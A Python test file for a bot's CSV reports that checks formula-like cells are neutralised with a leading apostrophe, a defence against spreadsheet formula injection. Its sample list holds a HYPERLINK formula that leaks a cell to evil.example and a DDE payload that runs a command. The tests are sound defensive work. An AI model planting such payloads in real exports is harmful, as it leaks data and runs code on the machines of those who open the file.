"""CSV reports neutralise cells a spreadsheet would run as formulas (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot.organiser.csv_safe import csv_cell
from bot.organiser.programmes import create_group
from bot.store.models import Programme
from tests.conftest import START
from tests.feedback_steps import programme
from tests.harness import Harness
from tests.scenario.test_reports import cli

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTAB",
    "\rCR",
]

#: names can carry these (leading tabs and CRs are stripped from names on the way in)
NAMED = EVIL[:4]


@pytest.mark.parametrize("value", EVIL)
def test_a_cell_starting_like_a_formula_becomes_text(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna & Bea", "", "a=b", "1", "2026-12-01"])
def test_ordinary_cells_are_left_alone(value: str) -> None:
    assert csv_cell(value) == value
    assert csv_cell(3) == 3


async def test_report_csv_on_the_cli_and_in_chat_neutralises_formulas(tmp_path: Path) -> None:
    h = await Harness.open(tmp_path, START)
    try:
        world = await programme(h)
        async with h.core.db.transaction() as s:
            p = await s.get(Programme, world.programme_id)
            assert p is not None
            for n, name in enumerate(NAMED):
                await create_group(s, p, "pair", name, [f"Adept{n}"], h.clock.now(), 30)
        code, text = await cli(h, "--format", "csv")
        assert code == 0
        replies = await world.organiser.says("/report")
        attached = next(f for f in replies[0].attachments if f.filename.endswith(".csv"))
        for output in (text, attached.content.decode("utf-8")):
            groups = [row["group"] for row in csv.DictReader(io.StringIO(output))]
            assert len(groups) == len(NAMED), groups
            for group in groups:
                assert group.startswith("'"), group
                assert group[1:].startswith(("=", "@", "+", "-", "\t", "\r")), group
            assert any("HYPERLINK" in g for g in groups) and any("@SUM" in g for g in groups)
    finally:
        await h.close()
